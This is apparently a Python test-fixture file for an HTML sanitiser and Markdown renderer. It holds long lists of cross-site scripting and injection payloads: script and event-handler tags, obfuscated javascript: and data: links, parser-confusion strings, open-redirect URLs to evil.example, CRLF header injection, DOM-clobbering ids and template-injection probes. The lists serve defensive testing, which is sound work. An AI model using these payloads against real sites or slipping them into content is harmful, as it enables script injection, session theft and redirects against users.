"""Texts that want more than they may. Each is rendered in both profiles, and sanitised as if it were HTML."""

MARKUP = r"""
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script
<script/random>alert(1)</script>
<<script>alert(1);//<</script>
<img src=x onerror=alert(1)>
<img src="/media/a.webp" onload="alert(1)">
<img src=`javascript:alert(1)`>
<img srcset="https://evil.example/x.png 1x" src="/media/a.webp">
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="https://evil.example/x.swf">
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body{background:url("javascript:alert(1)")}</style>
<style><!--</style><script>alert(1)//--></script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
<title><img title="</title><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<template><img src=x onerror=alert(1)></template>
<body onload=alert(1)>
<p onclick="alert(1)">x</p>
<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>
<p class="admin" id="csrfmiddlewaretoken">x</p>
<p id="p-zzzzzzzz">x</p>
<p id="location">x</p>
<a id="ref-a" name="csrfmiddlewaretoken" href="https://a.example">x</a>
<p data-controller="x" hx-get="/logout" hx-trigger="load" x-data="{}">x</p>
<div hx-on:load="alert(1)" data-hx-get="/x" tabindex="1">x</div>
<div class="table" tabindex="9999">x</div>
<form action="https://evil.example"><input name=password><button formaction="javascript:x">
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<video><source onerror="alert(1)"></video>
<audio src=x onerror=alert(1)></audio>
<marquee onstart=alert(1)>x</marquee>
<a href="javascript:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="java&ZeroWidthSpace;script:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="//evil.example">x</a>
<a href="/\evil.example">x</a>
<a href="/&#9;/evil.example">x</a>
<a href="\\evil.example">x</a>
<a href="https://good.example@evil.example/">x</a>
<a href="https://good.example&#8238;moc.live//:sptth">x</a>
<a href="https://evil.example" target="_blank" rel="opener" ping="https://evil.example">x</a>
<a href="https://a.example" rel="follow" role="button">x</a>
<a href=https://a.example/"onmouseover="alert(1)">x</a>
<span lang="fr' onclick='alert(1)" dir="up" class="cite evil" style="color:red">x</span>
<section role="dialog" class="modal">x</section>
<ol start="-1" type="a" reversed><li value="3">x</li></ol>
<td class="align-left evil" style="text-align:right" colspan="9999">x</td>
<table background="javascript:alert(1)"><tr><td>x</table>
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?><x/>
<!DOCTYPE html><html><head><script>alert(1)</script></head></html>
<p/onclick=alert(1)>x
<p title='x' title="y" onclick
<b <script>alert(1)</script>0
</p></div></section><script>alert(1)</script>
<a href="https://a.example"><a href="https://b.example">x</a></a>
<p><p><p>x
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&#60;img src=x onerror=alert(1)&#62;
{{ settings.SECRET_KEY }} {% load x %} ${7*7} <%= 7*7 %>
""".strip().splitlines()

MARKDOWN = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](<javascript:alert(1)>)
[x](java&#115;cript:alert(1))
[x](java&Tab;script:alert(1))
[x](javascript&colon;alert(1))
[x](&#x6A&#x61&#x76&#x61script:alert(1))
[x](\javascript:alert(1))
[x](%6aavascript:alert(1))
[x](vbscript:x)
[x](file:///etc/passwd)
[x](data:text/html,<script>alert(1)</script>)
[x](data:image/png;base64,AAAA)
[x](blob:https://a.example/1)
[x](//evil.example)
[x](/\evil.example)
[x](/%5Cevil.example)
[x](/%2Fevil.example)
[x](/%252Fevil.example)
[x](\\evil.example)
[x](///evil.example)
[x](https:evil.example)
[x](https:/evil.example)
[x](https:///evil.example)
[x](https://a.example:80@evil.example)
[x](https://a.example%40evil.example)
[x](https://a.example%2F@evil.example)
[x](https://a.example\@evil.example)
[x](https://user:pass@evil.example)
[x](https://a.example／.evil.example)
[x](https://a.example/%E2%80%AEfdp.exe)
[x](https://a.example/%0d%0aSet-Cookie:x)
[x](mailto:a@b.example?subject=x%0D%0Abcc:all@b.example)
[x](mailto:"<script>"@b.example)
[x](ftp://a.example) [x](tel:1) [x](ws://a.example) [x](view-source:https://a.example)
[x](https://a.example "title\" onclick=\"alert(1)")
[x](https://a.example/"onclick="alert(1))
[x](https://a.example/<script>)
[x](https://a.example){onclick=alert(1) href=javascript:alert(1)}
[x]: javascript:alert(1)
[x][y] then [y]: javascript:alert(1)
<javascript:alert(1)>
<data:text/html,x>
<https://user@evil.example>
<https://a.example/"onclick="x>
<a@b.example?bcc=c@d.example>
https://user:pass@evil.example/
https://a.example"onmouseover="alert(1)
https://a.example/<script>alert(1)</script>
https://a.example/'onclick='alert(1)
javascript:alert(1)//https://a.example
![x](javascript:alert(1))
![x](https://evil.example/pixel.png)
![x](//evil.example/pixel.png)
![x](data:image/svg+xml,<svg/onload=alert(1)>)
![x](image:../../etc/passwd)
![x](image:k"onerror="alert(1))
![x"onerror="alert(1)](image:k)
![x](image:k "title\" onerror=\"alert(1)")
![x](image:k '<script>alert(1)</script>')
![<img src=x onerror=alert(1)>](image:k)
![[x](javascript:alert(1))](image:k)
[![x](https://evil.example/x.png)](javascript:alert(1))
[x]{onclick=alert(1)}
[x]{style="position:fixed" class=y id=csrfmiddlewaretoken}
[x]{lang="fr\" onclick=\"alert(1)"}
[x]{lang=fr hx-get=/logout data-x=1 dir=javascript:}
[x]{lang='"><script>alert(1)</script>'}
[^"onclick="x] and [^"onclick="x]: note
[^<script>]: x
^[<script>alert(1)</script> [x](javascript:alert(1))]
^[^[^[x]]] [^1][^1] ![a^[b]](image:k)
[@k" onclick="x] [@<script>] [<script>@k]
[see <img src=x onerror=alert(1)> @known, p. 1"onclick="x]
[@known, <b onclick=x>] [@known; @unknown<script>]
[[@known](https://a.example)](https://b.example)
# <script>alert(1)</script> {#csrfmiddlewaretoken onclick=x}
# "onclick="alert(1)
# [x](javascript:alert(1))
```"onclick="alert(1)
``` <script> class=x
~~~ javascript:alert(1) {onclick=x}
`<script>alert(1)</script>`
| <script> | [x](javascript:x) | ![x](https://evil.example) |
> <iframe src=//evil.example>
- <form> - [ ] <input>
1. <style>*{display:none}</style>
99999999999. x
Term <script> : <img src=x onerror=alert(1)>
**<b onclick=x>** *<i>* ~~<s>~~
&#60;script&#62; &lt;img onerror=x&gt; &quot;onclick=&quot;
&#0; &#x0; &#xD800; &#x110000; &#x202e;x &#12;x &#13;x &#10;x
\<script\>alert(1)\</script\>
""".strip().splitlines()

# Blocks of several lines, and characters that can't stand in a raw line above.
BLOCKS = [
    "[x]\n\n[x]: javascript:alert(1)\n",
    "[x]\n\n[x]: <javascript:alert(1)> 'title'\n",
    "![x][k]\n\n[k]: https://evil.example/x.png\n",
    "[x](\u0001javascript:alert(1))".replace("\u0001", "&#1;"),
    "[x](java\u200bscript:alert(1)) [x](https://a.example/\u202egpj.exe) [x](https://a\u00ad.example)",
    "[x](https://a.example\u2028evil) https://a.example/\u200f\u202e",
    "[x](java\nscript:alert(1)) [x](<java\nscript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    'a | b\n:-"onclick=x | -:\n<script> | [x](javascript:x)\n',
    "a | b\n:-- | --:\n<td style=x> | ![x](https://evil.example)\n",
    "<div onclick=x>\n\n*x*\n\n</div>\n",
    "<script>\n\nalert(1)\n\n</script>\n",
    "<!--\n\n-->\n\n<script>alert(1)</script>\n",
    "Term\n: <script>\n: [x](javascript:x)\n",
    '[^a] [^a] [^b]\n\n[^a]: <script>\n[^a]: again\n[^b]: [^a] [x](javascript:x)\n\n    ```"onclick\n    x\n',
    "[^a]\n\n> [^a]: > quoted <b>\n\n- ![x](image:k '\"><script>')\n",
    "# a\n# a\n## a-2\n\na\n\na\n\n- a\n- a\n",
    "> " * 60 + "<script>",
    "- " * 60 + "<script>",
    "[" * 60 + "x" + "](javascript:x)" * 60,
    "*a **b " * 200 + "<script>",
    "<p>" * 300,
    "<b><i>" * 300,
    "<table>" * 60 + "<a>" * 60,
]

ATTACKS = [*MARKUP, *MARKDOWN, *BLOCKS]
